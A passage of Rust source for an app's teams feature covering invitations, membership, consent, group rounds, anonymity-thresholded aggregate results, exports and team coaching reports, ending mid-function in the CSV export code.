//! Teams for facilitators, on the signed-in account's Supabase project: teams, invitations, membership and
//! consent, group rounds, and the team results the server's anonymity rule allows.
//!
//! Everything here is a call to one of the project's team functions (`supabase/migrations/*_teams.sql`,
//! `*_team_rounds.sql`): the rules (who may do what, the threshold, the rule against working out one person's
//! answers by comparing results) hold on the server for every client, and no answer here carries another
//! member's own rows. What this module adds is bounded input, typed errors, names from the framework, and this
//! person's own answers to a round from this computer (to show beside the team's).
//!
//! A member answers a round with an ordinary assessment started with the round's id
//! ([`crate::api::CreateAssessmentRequest::round_id`]); it syncs like any other and counts once it is on the
//! server, completed, and its owner shares their results with the team.

pub mod dto;

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::ctx::Ctx;
use crate::domain::truncate_for_message;
use crate::error::{Error, Result};
use crate::util::parse_id;
use dto::*;

/// How many rounds a heatmap asks for by default, and at most.
pub const DEFAULT_RESULT_ROUNDS: u32 = 20;
pub const MAX_RESULT_ROUNDS: u32 = 50;

/// The teams capability.
pub struct Teams<'a> {
    ctx: &'a Ctx,
}

/// A round as the server lists it (kept as it is for Home while the project cannot be reached).
#[derive(Deserialize, Serialize)]
struct RawRound {
    id: String,
    team_id: String,
    team_name: String,
    /// Absent in a list kept from before rounds were numbered.
    #[serde(default)]
    number: u32,
    pillar: Option<String>,
    mode: String,
    message: Option<String>,
    due_at: Option<String>,
    created_at: String,
    closed_at: Option<String>,
    responses: u32,
    members: u32,
    needed: u32,
}

#[derive(Deserialize)]
struct RawFigure {
    pillar: String,
    force: Option<String>,
    n: u32,
    mean: f64,
    sd: Option<f64>,
    histogram: Vec<u32>,
}

#[derive(Deserialize)]
struct RawResults {
    round: String,
    #[serde(default)]
    number: u32,
    state: String,
    responses: u32,
    members: u32,
    needed: u32,
    counted: Option<u32>,
    pillar: Option<String>,
    mode: String,
    results: Option<Vec<RawFigure>>,
    created_at: Option<String>,
    closed_at: Option<String>,
}

#[derive(Deserialize)]
struct RawMember {
    user_id: String,
    email: Option<String>,
    role: String,
    joined_at: String,
    consent: Option<bool>,
}

/// The server's words as a sentence ("not a member of this team" → "Not a member of this team.").
fn sentence(msg: &str) -> String {
    let msg = truncate_for_message(msg.trim());
    let mut c = msg.chars();
    let mut s: String = match c.next() {
        Some(f) => f.to_uppercase().chain(c).collect(),
        None => "The team's project refused it".into(),
    };
    if !s.ends_with('.') {
        s.push('.');
    }
    s
}

/// The team functions' own refusals (by PostgreSQL error code, as PostgREST passes them on).
fn refusal(_status: u16, body: &Value) -> Option<Error> {
    let code = body.get("code")?.as_str()?;
    let msg = body.get("message").and_then(Value::as_str).unwrap_or("");
    Some(match code {
        "P0002" => Error::TeamNotFound(sentence(msg)),
        "42501" => Error::NotFacilitator,
        "23514" if msg.contains("last facilitator") => Error::LastFacilitator(sentence(msg)),
        "23514" | "22023" | "22001" | "22007" | "22P02" | "23502" => {
            Error::InvalidArgument(sentence(msg))
        }
        "54000" => Error::TeamLimit(sentence(msg)),
        // The guessing limit of join_team (HTTP 429): not a busy server, so not retried.
        "PT429" => Error::TooManyTries,
        _ => return None,
    })
}

fn bad_answer(what: &str, e: impl std::fmt::Display) -> Error {
    Error::SyncRefused(format!("an unexpected answer to {what}: {e}"))
}

fn parse<T: for<'de> Deserialize<'de>>(what: &str, v: Value) -> Result<T> {
    serde_json::from_value(v).map_err(|e| bad_answer(what, e))
}

fn id(s: &str) -> Result<String> {
    Ok(parse_id(s)?.to_string())
}

fn time(s: Option<String>) -> Option<String> {
    s.map(|t| crate::capabilities::sync::wire::local_time(&t).unwrap_or(t))
}

/// "Round 3 · Group Prospects · 7 Dec 2026": a round told apart from the team's others in every list.
fn round_label(number: u32, title: &str, created_at: Option<&str>) -> String {
    let day = created_at
        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        .map(|t| {
            t.with_timezone(&chrono::Utc)
                .format("%-d %b %Y")
                .to_string()
        });
    let mut parts = Vec::new();
    if number > 0 {
        parts.push(format!("Round {number}"));
    }
    parts.push(title.to_owned());
    parts.extend(day);
    parts.join(" \u{b7} ")
}

fn name(s: &str) -> Result<String> {
    let n = s.trim();
    if n.is_empty() {
        return Err(Error::EmptyInput("A team needs a name.".into()));
    }
    if n.chars().count() > 80 {
        return Err(Error::PayloadTooLarge {
            what: "team name",
            max: 80,
            unit: "characters",
        });
    }
    Ok(n.to_owned())
}

fn bounded(s: Option<&str>, what: &'static str) -> Result<Option<String>> {
    match s {
        Some(t) if t.chars().count() > 2000 => Err(Error::PayloadTooLarge {
            what,
            max: 2000,
            unit: "characters",
        }),
        Some(t) => Ok(Some(t.trim().to_owned())),
        None => Ok(None),
    }
}

fn threshold(n: Option<u32>) -> Result<Option<u32>> {
    match n {
        Some(n) if !(3..=1000).contains(&n) => Err(Error::OutOfRange(format!(
            "A team's threshold is 3 to 1,000 responses (got {n}): results are never shown for fewer than 3."
        ))),
        other => Ok(other),
    }
}

/// The scheme and path of an invitation link: `compilar://join/ABCD-EFGH-JKLM`.
pub const INVITE_LINK_PREFIX: &str = "compilar://join/";

/// The invitation code in what was entered: a code as given (case, spaces and dashes do not matter) or its
/// link. Bounded before anything else is read: a code is at most 64 characters, a link at most 80.
pub fn invite_code_of(input: &str) -> Result<String> {
    let input = input.trim();
    let n = input.chars().count();
    let prefix = INVITE_LINK_PREFIX.len();
    let is_link = input
        .get(..prefix)
        .is_some_and(|p| p.eq_ignore_ascii_case(INVITE_LINK_PREFIX));
    let (what, max) = if is_link {
        ("invitation link", 80)
    } else {
        ("invitation code", 64)
    };
    if n > max {
        return Err(Error::PayloadTooLarge {
            what,
            max,
            unit: "characters",
        });
    }
    let raw = if is_link {
        input.get(prefix..).unwrap_or_default()
    } else if input.contains("://") {
        return Err(Error::InvalidArgument(
            "That link is not a Compilar invitation: those start with compilar://join/. Paste the code or the invitation link you were given.".into(),
        ));
    } else {
        input
    };
    let code: String = raw.chars().filter(char::is_ascii_alphanumeric).collect();
    if code.is_empty() {
        return Err(Error::EmptyInput(
            "Enter the invitation code or link you were given.".into(),
        ));
    }
    Ok(code)
}

/// The code of an invitation link the app was opened with (`compilar://join/ABCD-EFGH-JKLM`), as it is shown
/// ("ABCD-EFGH-JKLM"), for the join field. Anything but such a link is refused.
pub fn invitation_in_link(link: &str) -> Result<String> {
    let prefix = INVITE_LINK_PREFIX.len();
    let trimmed = link.trim();
    if !trimmed
        .get(..prefix)
        .is_some_and(|p| p.eq_ignore_ascii_case(INVITE_LINK_PREFIX))
    {
        return Err(Error::InvalidArgument(
            "Compilar was opened with a link it does not know: invitation links start with compilar://join/."
                .into(),
        ));
    }
    Ok(grouped(&invite_code_of(trimmed)?.to_ascii_uppercase()))
}

/// "ABCDEFGHJKLM" → "ABCD-EFGH-JKLM".
fn grouped(code: &str) -> String {
    let chars: Vec<char> = code.chars().collect();
    chars
        .chunks(4)
        .map(|c| c.iter().collect::<String>())
        .collect::<Vec<_>>()
        .join("-")
}

impl Ctx {
    /// This capability's handle on the context.
    pub(crate) fn teams(&self) -> Teams<'_> {
        Teams::new(self)
    }
}

impl<'a> Teams<'a> {
    pub(crate) fn new(ctx: &'a Ctx) -> Self {
        Teams { ctx }
    }

    async fn rpc(&self, function: &str, body: Value) -> Result<Value> {
        self.ctx
            .remote()
            .call_as(&format!("/rpc/{function}"), &body, &refusal)
            .await
    }

    async fn me(&self) -> Result<String> {
        Ok(self
            .ctx
            .remote()
            .link()
            .await?
            .ok_or(Error::NotSignedIn)?
            .user_id)
    }

    /// The teams this person is in (deleted ones too, marked, so members are told).
    pub async fn list(&self) -> Result<Vec<Team>> {
        let v = self.rpc("my_teams", json!({})).await?;
        parse("my_teams", v)
    }

    async fn team(&self, team_id: &str) -> Result<Team> {
        self.list()
            .await?
            .into_iter()
            .find(|t| t.id == team_id)
            .ok_or_else(|| Error::TeamNotFound("You are not in that team.".into()))
    }

    /// Creates a team; its creator is its facilitator.
    pub async fn create(&self, req: CreateTeamRequest) -> Result<Team> {
        let name = name(&req.name)?;
        let description = bounded(req.description.as_deref(), "team description")?;
        let min = threshold(req.min_responses)?.unwrap_or(5);
        let v = self
            .rpc(
                "create_team",
                json!({ "name": name, "description": description, "min_responses": min }),
            )
            .await?;
        let team_id = v
            .as_str()
            .ok_or_else(|| bad_answer("create_team", "no team id"))?
            .to_owned();
        tracing::info!(team = %team_id, "team created");
        self.team(&team_id).await
    }

    /// Renames a team, changes its description or threshold (facilitators).
    pub async fn update(&self, req: UpdateTeamRequest) -> Result<Team> {
        let team_id = id(&req.team_id)?;
        let name = req.name.as_deref().map(name).transpose()?;
        let description = bounded(req.description.as_deref(), "team description")?;
        let min = threshold(req.min_responses)?;
        self.rpc(
            "update_team",
            json!({ "team": team_id, "name": name, "description": description, "min_responses": min }),
        )
        .await?;
        self.team(&team_id).await
    }

    /// Deletes a team (facilitators): its members are told, and everyone's own data stays theirs.
    pub async fn delete(&self, req: TeamRequest) -> Result<()> {
        let team_id = id(&req.team_id)?;
        self.rpc("delete_team", json!({ "team": team_id })).await?;
        tracing::info!(team = %team_id, "team deleted");
        Ok(())
    }

    /// A new invitation code (facilitators); shown once.
    pub async fn invite(&self, req: InviteRequest) -> Result<Invite> {
        let team_id = id(&req.team_id)?;
        if let Some(n) = req.max_uses {
            if !(1..=10_000).contains(&n) {
                return Err(Error::OutOfRange(format!(
                    "An invitation is used 1 to 10,000 times, or any number until it expires (got {n})."
                )));
            }
        }
        let days = req.valid_days.unwrap_or(7);
        if !(1..=90).contains(&days) {
            return Err(Error::OutOfRange(format!(
                "An invitation lasts 1 to 90 days (got {days})."
            )));
        }
        let v = self
            .rpc(
                "create_invite",
                json!({ "team": team_id, "max_uses": req.max_uses, "valid_for": format!("{days} days") }),
            )
            .await?;
        #[derive(Deserialize)]
        struct Raw {
            id: String,
            code: String,
            expires_at: String,
            uses_left: Option<u32>,
        }
        let r: Raw = parse("create_invite", v)?;
        let code = grouped(&r.code);
        Ok(Invite {
            id: r.id,
            team_id,
            link: format!("{INVITE_LINK_PREFIX}{code}"),
            code,
            expires_at: time(Some(r.expires_at)).unwrap_or_default(),
            uses_left: r.uses_left,
        })
    }

    /// A team's open invitations, newest first (facilitators): not revoked, not expired, not used up.
    pub async fn invites(&self, req: TeamRequest) -> Result<Vec<InviteInfo>> {
        let team_id = id(&req.team_id)?;
        let v = self.rpc("open_invites", json!({ "team": team_id })).await?;
        #[derive(Deserialize)]
        struct Raw {
            id: String,
            team_id: String,
            created_at: String,
            expires_at: String,
            uses_left: Option<u32>,
            made_by_me: bool,
            made_by: Option<String>,
        }
        let raw: Vec<Raw> = parse("open_invites", v)?;
        Ok(raw
            .into_iter()
            .map(|r| InviteInfo {
                id: r.id,
                team_id: r.team_id,
                created_at: time(Some(r.created_at)).unwrap_or_default(),
                expires_at: time(Some(r.expires_at)).unwrap_or_default(),
                uses_left: r.uses_left,
                made_by_me: r.made_by_me,
                made_by: r.made_by,
            })
            .collect())
    }

    /// Stops an invitation from working (facilitators).
    pub async fn revoke_invite(&self, req: RevokeInviteRequest) -> Result<()> {
        let invite = id(&req.invite_id)?;
        self.rpc("revoke_invite", json!({ "invite": invite }))
            .await?;
        Ok(())
    }

    /// Joins a team with an invitation code; the new member shares nothing until they say so.
    pub async fn join(&self, req: JoinRequest) -> Result<Team> {
        let code = invite_code_of(&req.code)?;
        let v = self.rpc("join_team", json!({ "code": code })).await?;
        let Some(team_id) = v.as_str() else {
            return Err(Error::InviteInvalid);
        };
        tracing::info!(team = %team_id, "joined a team");
        self.team(team_id).await
    }

    /// Leaves a team (the last facilitator cannot).
    pub async fn leave(&self, req: TeamRequest) -> Result<()> {
        let team_id = id(&req.team_id)?;
        self.rpc("leave_team", json!({ "team": team_id })).await?;
        Ok(())
    }

    /// Removes a member (facilitators).
    pub async fn remove_member(&self, req: MemberRequest) -> Result<Vec<Member>> {
        let (team_id, member) = (id(&req.team_id)?, id(&req.user_id)?);
        self.rpc(
            "remove_member",
            json!({ "team": team_id, "member": member }),
        )
        .await?;
        self.members(TeamRequest { team_id }).await
    }

    /// Makes a member a facilitator or a member (facilitators; the last facilitator stays one).
    pub async fn set_role(&self, req: RoleRequest) -> Result<Vec<Member>> {
        let (team_id, member) = (id(&req.team_id)?, id(&req.user_id)?);
        if req.role != "facilitator" && req.role != "member" {
            return Err(Error::InvalidArgument(format!(
                "A role is facilitator or member, not \u{201c}{}\u{201d}.",
                truncate_for_message(&req.role)
            )));
        }
        self.rpc(
            "set_role",
            json!({ "team": team_id, "member": member, "role": req.role }),
        )
        .await?;
        self.members(TeamRequest { team_id }).await
    }

    /// Whether this person's results for the team's rounds count in its results. Withdrawing takes them out of
    /// every result shown from then on.
    pub async fn set_consent(&self, req: ConsentRequest) -> Result<Team> {
        let team_id = id(&req.team_id)?;
        self.rpc(
            "set_consent",
            json!({ "team": team_id, "consent": req.consent }),
        )
        .await?;
        tracing::info!(team = %team_id, consent = req.consent, "team consent changed");
        self.team(&team_id).await
    }

    /// A team's members with their roles (and consent, for facilitators and oneself).
    pub async fn members(&self, req: TeamRequest) -> Result<Vec<Member>> {
        let team_id = id(&req.team_id)?;
        let me = self.me().await?;
        let v = self.rpc("team_members", json!({ "team": team_id })).await?;
        let raw: Vec<RawMember> = parse("team_members", v)?;
        Ok(raw
            .into_iter()
            .map(|m| Member {
                me: m.user_id == me,
                user_id: m.user_id,
                email: m.email,
                role: m.role,
                joined_at: time(Some(m.joined_at)).unwrap_or_default(),
                consent: m.consent,
            })
            .collect())
    }

    /// Starts a round (facilitators): one pillar of a mode, or a full profile of it.
    pub async fn start_round(&self, req: StartRoundRequest) -> Result<Round> {
        let team_id = id(&req.team_id)?;
        crate::validate::check_len(&req.mode, "mode")?;
        let d = &self.ctx.domain;
        let mode = d.mode(&req.mode)?.id.clone();
        let pillar = match req.pillar.as_deref().filter(|p| !p.is_empty()) {
            Some(p) => {
                crate::validate::check_len(p, "pillar")?;
                Some(d.pillar_in_mode(p, &mode)?.0.id.clone())
            }
            None => None,
        };
        let due = match req.due_at.as_deref().filter(|t| !t.trim().is_empty()) {
            Some(t) => {
                let at = chrono::DateTime::parse_from_rfc3339(t.trim()).map_err(|_| {
                    Error::InvalidArgument(format!(
                        "\u{201c}{}\u{201d} is not a date and time (RFC 3339, e.g. 2026-12-24T17:00:00Z).",
                        truncate_for_message(t)
                    ))
                })?;
                if at <= chrono::Utc::now() {
                    return Err(Error::InvalidArgument(
                        "A round's due date is in the future.".into(),
                    ));
                }
                Some(at.with_timezone(&chrono::Utc).to_rfc3339())
            }
            None => None,
        };
        let message = bounded(req.message.as_deref(), "round message")?;
        let v = self
            .rpc(
                "start_round",
                json!({ "team": team_id, "mode": mode, "pillar": pillar, "due_at": due, "message": message }),
            )
            .await?;
        let round_id = v
            .as_str()
            .ok_or_else(|| bad_answer("start_round", "no round id"))?
            .to_owned();
        tracing::info!(team = %team_id, round = %round_id, "round started");
        self.rounds(TeamRequest { team_id })
            .await?
            .into_iter()
            .find(|r| r.id == round_id)
            .ok_or_else(|| bad_answer("team_rounds", "the new round is missing"))
    }

    /// Closes a round (facilitators): it leaves Home; its results stay.
    pub async fn close_round(&self, req: RoundRequest) -> Result<()> {
        let round = id(&req.round_id)?;
        self.rpc("close_round", json!({ "round": round })).await?;
        Ok(())
    }

    /// A team's rounds, newest first, with their response counts and this person's own answer.
    pub async fn rounds(&self, req: TeamRequest) -> Result<Vec<Round>> {
        let team_id = id(&req.team_id)?;
        let v = self.rpc("team_rounds", json!({ "team": team_id })).await?;
        let raw: Vec<RawRound> = parse("team_rounds", v)?;
        self.with_mine(raw).await
    }

    /// The open rounds of every team this person is in (Home's "Your team asked…"), as the project lists
    /// them now. The list is kept on this computer for [`Teams::open_rounds_or_kept`].
    pub async fn open_rounds(&self) -> Result<Vec<Round>> {
        let v = self.rpc("my_open_rounds", json!({})).await?;
        let raw: Vec<RawRound> = parse("my_open_rounds", v)?;
        self.keep_open_rounds(&raw).await?;
        self.with_mine(raw).await
    }

    /// The open rounds as [`Teams::open_rounds`] lists them; while the project cannot be reached, the list
    /// read last time it could (for this account), with when that was, so a member can still answer a round
    /// offline: the answer syncs when the project is back. Without a kept list the error stands.
    pub async fn open_rounds_or_kept(&self) -> Result<OpenRounds> {
        match self.open_rounds().await {
            Ok(rounds) => Ok(OpenRounds {
                rounds,
                kept_from: None,
            }),
            Err(e @ Error::SyncUnreachable { .. }) => {
                let key = self.kept_key().await?;
                let kept = self
                    .ctx
                    .store
                    .read(move |c| crate::store::meta::setting(c, &key))
                    .await?;
                let Some(kept) = kept else { return Err(e) };
                #[derive(Deserialize)]
                struct Kept {
                    at: String,
                    rounds: Vec<RawRound>,
                }
                // A kept list that no longer reads (an older release's) is as good as none.
                let Ok(kept) = serde_json::from_str::<Kept>(&kept) else {
                    return Err(e);
                };
                Ok(OpenRounds {
                    rounds: self.with_mine(kept.rounds).await?,
                    kept_from: Some(kept.at),
                })
            }
            Err(e) => Err(e),
        }
    }

    async fn kept_key(&self) -> Result<String> {
        Ok(format!("teams.open_rounds:{}", self.me().await?))
    }

    async fn keep_open_rounds(&self, raw: &[RawRound]) -> Result<()> {
        let key = self.kept_key().await?;
        let value = json!({ "at": crate::util::now(), "rounds": raw }).to_string();
        self.ctx
            .store
            .write(move |c| crate::store::meta::set_setting(c, &key, &value))
            .await
    }

    fn title(&self, pillar: Option<&str>) -> String {
        match pillar {
            Some(p) => self
                .ctx
                .domain
                .pillar(p)
                .map(|p| p.name.clone())
                .unwrap_or_else(|_| p.to_owned()),
            None => "Full profile".into(),
        }
    }

    async fn with_mine(&self, raw: Vec<RawRound>) -> Result<Vec<Round>> {
        let ids: Vec<String> = raw.iter().map(|r| r.id.clone()).collect();
        let who = self.ctx.principal.clone();
        let mine = self
            .ctx
            .store
            .read(move |c| {
                let mut st = c.prepare_cached(
                    "SELECT a.round_id, a.id, a.stage = 'completed',
                            EXISTS (SELECT 1 FROM outbox o WHERE o.tbl = 'assessments' AND o.row_id = a.id)
                       FROM assessments a
                      WHERE a.owner_id = ?1 AND a.deleted_at IS NULL
                        AND a.round_id IN (SELECT value FROM json_each(?2))
                      ORDER BY a.round_id, a.stage = 'completed', a.updated_at",
                )?;
                let rows = st.query_map(
                    rusqlite::params![who.owner(), Value::from(ids).to_string()],
                    |r| {
                        Ok((
                            r.get::<_, String>(0)?,
                            MyRoundAnswer {
                                assessment_id: r.get(1)?,
                                completed: r.get(2)?,
                                waiting_to_sync: r.get(3)?,
                            },
                        ))
                    },
                )?;
                // The last per round wins: completed before unfinished, then the latest.
                let mut m = std::collections::HashMap::new();
                for row in rows {
                    let (round, a) = row?;
                    m.insert(round, a);
                }
                Ok(m)
            })
            .await?;
        let mut mine = mine;
        Ok(raw
            .into_iter()
            .map(|r| Round {
                title: self.title(r.pillar.as_deref()),
                label: round_label(
                    r.number,
                    &self.title(r.pillar.as_deref()),
                    Some(&r.created_at),
                ),
                number: r.number,
                mine: mine.remove(&r.id),
                id: r.id,
                team_id: r.team_id,
                team_name: r.team_name,
                pillar: r.pillar,
                mode: r.mode,
                message: r.message,
                due_at: time(r.due_at),
                created_at: time(Some(r.created_at)).unwrap_or_default(),
                closed_at: time(r.closed_at),
                responses: r.responses,
                members: r.members,
                needed: r.needed,
            })
            .collect())
    }

    /// A round's team results: figures only when the server's rule allows them, with this person's own scores
    /// beside them.
    pub async fn round_results(&self, req: RoundRequest) -> Result<RoundResults> {
        let round = id(&req.round_id)?;
        let v = self.rpc("round_results", json!({ "round": round })).await?;
        let raw: RawResults = parse("round_results", v)?;
        let mine = self.my_scores(std::slice::from_ref(&raw.round)).await?;
        Ok(self.results(raw, &mine))
    }

    /// The results of a team's latest rounds, oldest first (the heatmap and trends).
    pub async fn team_results(&self, req: TeamResultsRequest) -> Result<TeamResults> {
        let team_id = id(&req.team_id)?;
        let last = req.last.unwrap_or(DEFAULT_RESULT_ROUNDS);
        if !(1..=MAX_RESULT_ROUNDS).contains(&last) {
            return Err(Error::OutOfRange(format!(
                "Ask for 1 to {MAX_RESULT_ROUNDS} rounds (got {last})."
            )));
        }
        let v = self
            .rpc("team_results", json!({ "team": team_id, "last": last }))
            .await?;
        let raw: Vec<RawResults> = parse("team_results", v)?;
        let ids: Vec<String> = raw.iter().map(|r| r.round.clone()).collect();
        let mine = self.my_scores(&ids).await?;
        Ok(TeamResults {
            team_id,
            rounds: raw.into_iter().map(|r| self.results(r, &mine)).collect(),
        })
    }

    /// A team's results as CSV or JSON: the aggregates only, as shown (nothing of any one member).
    pub async fn export_results(&self, req: TeamResultsRequest, format: &str) -> Result<String> {
        let results = self.team_results(req).await?;
        match format {
            "json" => serde_json::to_string_pretty(&results)
                .map_err(|e| Error::Internal(format!("team results JSON: {e}"))),
            "csv" => results_csv(&results),
            other => Err(Error::InvalidArgument(format!(
                "Team results export as csv or json, not \u{201c}{}\u{201d}.",
                truncate_for_message(other)
            ))),
        }
    }

    /// Writes [`Teams::export_results`] to `path` (CSV or JSON).
    pub async fn save_results(
        &self,
        req: TeamResultsRequest,
        format: &str,
        path: &std::path::Path,
        overwrite: crate::output::Overwrite,
    ) -> Result<()> {
        let path = crate::output::check(&self.ctx.paths, path, overwrite)?;
        let text = self.export_results(req, format).await?;
        crate::output::write_file(&self.ctx.paths, &path, text.into_bytes()).await
    }

    /// Writes the coaching report on a round's team results: the coach of one person's result, on the team's
    /// aggregates (means, spread, ranges, bands; never anyone's own answers, and not the reader's own score),
    /// grounded in the knowledge base's passages for the pillar the team rates lowest. Streamed to `sink` as
    /// [`crate::capabilities::coach::Coach::report`] streams; the offline coach writes it when asked or when
    /// no model can answer. Refused with `team_results_hidden` while the round's results are not shown. The
    /// report is kept on this computer only (it is written from the round again at any time).
    pub async fn report<F>(
        &self,
        req: TeamReportRequest,
        sink: F,
    ) -> Result<crate::api::ReportState>
    where
        F: Fn(crate::llm::StreamEvent) + Send + Sync,
    {
        use crate::capabilities::coach::{prompts, sql::Subject, team, Writing};
        let exclude = req.exclude.unwrap_or_default();
        crate::validate::check_exclude(&exclude)?;
        let team_id = id(&req.team_id)?;
        let round_id = id(&req.round_id)?;
        let rounds = self
            .rounds(TeamRequest {
                team_id: team_id.clone(),
            })
            .await?;
        if !rounds.iter().any(|r| r.id == round_id) {
            return Err(Error::TeamNotFound(
                "This round is not one of this team's.".into(),
            ));
        }
        let results = self
            .round_results(RoundRequest {
                round_id: round_id.clone(),
            })
            .await?;
        if results.figures.is_empty() {
            return Err(Error::TeamResultsHidden(results.label.to_lowercase()));
        }
        let fw = &self.ctx.domain.framework;
        let pillars = team::pillars(&results);
        let Some(focus) = team::focus_pillar(&pillars) else {
            return Err(Error::TeamResultsHidden(results.label.to_lowercase()));
        };
        let as_results = team::as_results(fw, &results.mode, focus);
        let job = self.ctx.jobs.start(
            crate::jobs::JobKind::Report,
            &round_id,
            "Writing a team coaching report",
            Some(results.title.clone()),
            |_| "A coaching report on this round is already being written.".into(),
        )?;
        let coach = self.ctx.coach();
        let passages = coach.passages(&as_results).await?;
        let writing = Writing {
            about: Subject::Round {
                round: round_id.clone(),
                team: team_id,
                title: results.title.clone(),
                responses: results.counted.unwrap_or(results.responses),
            },
            prompt: prompts::team_report(&results, &passages),
            offline_text: team::report(fw, &results, &passages),
            passages,
            offline: req.offline == Some(true),
            exclude,
        };
        if let Some(r) = coach.write(writing, job, &sink).await? {
            tracing::info!(
                round = %round_id,
                status = r.status.as_str(),
                writer = ?r.writer,
                "team coaching report stored"
            );
        }
        self.report_state(&round_id).await
    }

    /// The team coaching report of a round kept on this computer (the newest complete one and a newer
    /// attempt), whether one is being written, and whether a model is available. Works offline.
    pub async fn report_state(&self, round_id: &str) -> Result<crate::api::ReportState> {
        let round = id(round_id)?;
        self.ctx
            .coach()
            .stored(crate::capabilities::coach::sql::Subject::Round {
                round,
                team: String::new(),
                title: String::new(),
                responses: 0,
            })
            .await
    }

    /// Stops the team report being written for a round. Whether one was running.
    pub fn cancel_report(&self, round_id: &str) -> bool {
        self.ctx.coach().cancel_report(round_id)
    }

    /// The round's current team report as a Markdown document (heading, who wrote it, the report, its
    /// sources in full), from this computer.
    pub async fn export_report(&self, round_id: &str) -> Result<String> {
        let state = self.report_state(round_id).await?;
        let rep = state
            .report
            .or(state.last_attempt)
            .ok_or(Error::ReportNotFound)?;
        let (who, round) = (self.ctx.principal.clone(), id(round_id)?);
        let title = self
            .ctx
            .store
            .read(move |c| crate::capabilities::coach::sql::round_title(c, &who, &round))
            .await?
            .unwrap_or_else(|| "a group round".into());
        let mut out = format!("# Team coaching report: {title}\n\n");
        if let Some(n) = rep.responses {
            let _ = std::fmt::Write::write_fmt(
                &mut out,
                format_args!("On the team results of {n} members.  \n"),
            );
        }
        crate::capabilities::coach::markdown_body(&mut out, &rep);
        Ok(out)
    }

    /// Writes [`Teams::export_report`] to `path` (a file the user chose), never leaving half a file.
    pub async fn save_report(
        &self,
        round_id: &str,
        path: &std::path::Path,
        overwrite: crate::output::Overwrite,
    ) -> Result<()> {
        let path = crate::output::check(&self.ctx.paths, path, overwrite)?;
        let md = self.export_report(round_id).await?;
        crate::output::write_file(&self.ctx.paths, &path, md.into_bytes()).await
    }

    /// This person's own scores for rounds, from their latest completed assessment of each round and pillar
    /// on this computer: (round, pillar, force) → score (force `None`: the pillar's score).
    async fn my_scores(
        &self,
        rounds: &[String],
    ) -> Result<std::collections::HashMap<(String, String, Option<String>), f64>> {
        let who = self.ctx.principal.clone();
        let ids = Value::from(rounds.to_vec()).to_string();
        let rows = self
            .ctx
            .store
            .read(move |c| {
                let mut st = c.prepare_cached(
                    "SELECT round_id, results FROM assessments
                      WHERE owner_id = ?1 AND deleted_at IS NULL AND stage = 'completed' AND results IS NOT NULL
                        AND round_id IN (SELECT value FROM json_each(?2))
                      ORDER BY completed_at",
                )?;
                let rows = st.query_map(rusqlite::params![who.owner(), ids], |r| {
                    Ok((r.get::<_, String>(0)?, r.get::<_, String>(1)?))
                })?;
                Ok(rows.collect::<rusqlite::Result<Vec<_>>>()?)
            })
            .await?;
        let mut out = std::collections::HashMap::new();
        for (round, results) in rows {
            let r = match crate::capabilities::assessments::stored::read(&results) {
                Ok(r) => r,
                Err(e) => {
                    tracing::warn!(error = %e, "an assessment's stored results could not be read");
                    continue;
                }
            };
            // Later completions overwrite earlier ones.
            out.insert((round.clone(), r.pillar.clone(), None), r.pillar_score);
            for f in &r.forces {
                if let Some(s) = f.score {
                    out.insert((round.clone(), r.pillar.clone(), Some(f.force.clone())), s);
                }
            }
        }
        Ok(out)
    }

    fn results(
        &self,
        r: RawResults,
        mine: &std::collections::HashMap<(String, String, Option<String>), f64>,
    ) -> RoundResults {
        let fw = &self.ctx.domain.framework;
        // Only the framework's pillars and forces: the server refuses any other id, and a figure this app
        // cannot name is never shown or given to a model.
        let figures = r
            .results
            .unwrap_or_default()
            .into_iter()
            .filter(|f| {
                fw.pillar(&f.pillar).is_some()
                    && f.force.as_deref().is_none_or(|id| fw.force(id).is_some())
                    && f.histogram.len() == 5
                    && f.mean.is_finite()
                    && (0.0..=100.0).contains(&f.mean)
            })
            .map(|f| ResultFigure {
                pillar_name: self.title(Some(&f.pillar)),
                force_name: f.force.as_ref().map(|id| {
                    fw.forces
                        .iter()
                        .find(|x| &x.id == id)
                        .map_or_else(|| id.clone(), |x| x.name.clone())
                }),
                mine: mine
                    .get(&(r.round.clone(), f.pillar.clone(), f.force.clone()))
                    .copied(),
                pillar: f.pillar,
                force: f.force,
                n: f.n,
                band: crate::domain::Band::of(f.mean),
                mean: f.mean,
                sd: f.sd.unwrap_or(0.0),
                spread: Spread::of(f.sd.unwrap_or(0.0)),
                spread_label: Spread::of(f.sd.unwrap_or(0.0)).label().to_owned(),
                histogram: f.histogram,
            })
            .collect();
        let label = match r.state.as_str() {
            "below_threshold" => format!("{} of {} needed", r.responses, r.needed),
            "shown" => format!(
                "{} {}",
                r.responses,
                if r.responses == 1 {
                    "response"
                } else {
                    "responses"
                }
            ),
            "shown_earlier" => {
                let counted = r.counted.unwrap_or(0);
                format!(
                    "Showing {counted} responses; {} newer held back until enough more keep everyone anonymous",
                    r.responses.saturating_sub(counted)
                )
            }
            _ => "Held back to keep everyone anonymous: the results return when enough new responses arrive"
                .to_owned(),
        };
        RoundResults {
            title: self.title(r.pillar.as_deref()),
            round_label: round_label(
                r.number,
                &self.title(r.pillar.as_deref()),
                r.created_at.as_deref(),
            ),
            number: r.number,
            round_id: r.round,
            state: r.state,
            label,
            responses: r.responses,
            members: r.members,
            needed: r.needed,
            counted: r.counted,
            pillar: r.pillar,
            mode: r.mode,
            created_at: time(r.created_at),
            closed_at: time(r.closed_at),
            figures,
        }
    }
}

/// One row per figure and round: the aggregates as shown, nothing of any one member (not even the reader's
/// own scores, which stay theirs).
fn results_csv(t: &TeamResults) -> Result<String> {
    let err = |e: csv::Error| Error::Internal(format!("csv: {e}"));
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "round_id",
        "round_number",
        "round_started",
        "round",
        "mode",
        "state",
        "responses",
        "counted",
        "needed",
        "pillar",
        "force",
        "n",
        "mean",
        "sd",
        "below_20",
        "20_to_40",
        "40_to_60",
        "60_to_80",
        "80_and_above",
    ])
    .map_err(err)?;
    for r in &t.rounds {
        let text = |s: &str| crate::util::csv_text(s).into_owned();
        let base = [
            text(&r.round_id),
            r.number.to_string(),
            text(r.created_at.as_deref().unwrap_or_default()),
            text(&r.title),
            text(&r.mode),
            text(&r.state),
            r.responses.to_string(),
            r.counted.map(|n| n.to_string()).unwrap_or_default(),
            r.needed.to_string(),
        ];
        if r.figures.is_empty() {
            let mut row: Vec<String> = base.to_vec();
            row.extend(std::iter::repeat_n(String::new(), 10));
